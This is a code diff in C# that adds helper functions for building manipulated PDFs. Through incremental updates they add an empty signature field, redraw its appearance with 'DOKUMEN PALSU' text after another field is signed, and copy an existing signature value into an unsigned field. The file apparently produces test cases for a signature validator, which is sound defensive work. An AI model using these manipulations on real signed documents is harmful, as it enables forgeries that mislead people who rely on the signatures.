@@ -184,3 +184,48 @@ public static partial class AttackPdfs
         w.Set(apRef, PdfIncrementalWriter.CreateStream(old.Dictionary.CloneDictionary(), Encoding.ASCII.GetBytes("1 0 0 rg 0 0 200 50 re f BT /Helv 12 Tf 0 g 5 20 Td (DIBATALKAN) Tj ET\n"), compress: false));
     });
 }
+
+/// <summary>Attacks through an empty (prepared) signature field.</summary>
+public static class EmptySignatureFieldAttacks
+{
+    /// <summary>Unsigned: adds a visible empty signature field "TTD Sekcam" with a blank appearance over the page text.</summary>
+    public static byte[] WithEmptyVisibleField(byte[] pdf) => AttackPdfs.Update(pdf, (file, w) =>
+    {
+        var page = file.GetPages()[0];
+        var ap = w.AddStream(new PdfDictionary().Set("Type", new PdfName("XObject")).Set("Subtype", new PdfName("Form")).Set("BBox", PdfArray.OfNumbers(0, 0, 500, 60)), [], compress: false);
+        var widget = w.Add(new PdfDictionary()
+            .Set("Type", new PdfName("Annot")).Set("Subtype", new PdfName("Widget")).Set("FT", new PdfName("Sig"))
+            .Set("T", PdfString.FromText("TTD Sekcam")).Set("F", new PdfInteger(4))
+            .Set("Rect", PdfArray.OfNumbers(60, 740, 560, 800)).Set("AP", new PdfDictionary().Set("N", ap)).Set("P", page.Reference!));
+        w.EditDictionary(page.Reference!).Set("Annots", new PdfArray(widget));
+        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("AcroForm", w.Add(new PdfDictionary().Set("Fields", new PdfArray(widget))));
+    });
+
+    private static (PdfReference Field, PdfDictionary Dict) EmptyField(PdfFile file)
+    {
+        var acro = (PdfDictionary)file.Resolve(((PdfDictionary)file.Resolve(file.Trailer["Root"]))["AcroForm"]);
+        foreach (var f in ((PdfArray)file.Resolve(acro["Fields"])).OfType<PdfReference>())
+            if (file.Resolve(f) is PdfDictionary d && d["V"] is null) return (f, d);
+        throw new InvalidOperationException("no empty field");
+    }
+
+    /// <summary>After signing another field, the empty field's appearance stream is redrawn in place with text; it stays unsigned.</summary>
+    public static byte[] EmptyFieldAppearanceRedrawn(byte[] signed) => AttackPdfs.Update(signed, (file, w) =>
+    {
+        var (_, d) = EmptyField(file);
+        var apRef = (PdfReference)((PdfDictionary)file.Resolve(d["AP"]))["N"]!;
+        var old = (PdfStream)file.Resolve(apRef);
+        w.Set(apRef, PdfIncrementalWriter.CreateStream(old.Dictionary.CloneDictionary(), Encoding.ASCII.GetBytes("1 1 1 rg 0 0 500 60 re f BT /Helv 24 Tf 0 g 10 20 Td (DOKUMEN PALSU) Tj ET\n"), compress: false));
+    });
+
+    /// <summary>After signing another field, the empty field is "signed" with the existing signature's /V and a new appearance.</summary>
+    public static byte[] EmptyFieldGivenExistingValue(byte[] signed) => AttackPdfs.Update(signed, (file, w) =>
+    {
+        var (fieldRef, _) = EmptyField(file);
+        var acro = (PdfDictionary)file.Resolve(((PdfDictionary)file.Resolve(file.Trailer["Root"]))["AcroForm"]);
+        var signedField = ((PdfArray)file.Resolve(acro["Fields"])).OfType<PdfReference>().Select(r => (PdfDictionary)file.Resolve(r)).First(d => d["V"] is not null);
+        var ap = w.AddStream(new PdfDictionary().Set("Type", new PdfName("XObject")).Set("Subtype", new PdfName("Form")).Set("BBox", PdfArray.OfNumbers(0, 0, 500, 60)),
+            Encoding.ASCII.GetBytes("1 1 1 rg 0 0 500 60 re f BT /Helv 24 Tf 0 g 10 20 Td (DOKUMEN PALSU) Tj ET\n"), compress: false);
+        w.EditDictionary(fieldRef).Set("V", signedField["V"]!).Set("AP", new PdfDictionary().Set("N", ap));
+    });
+}
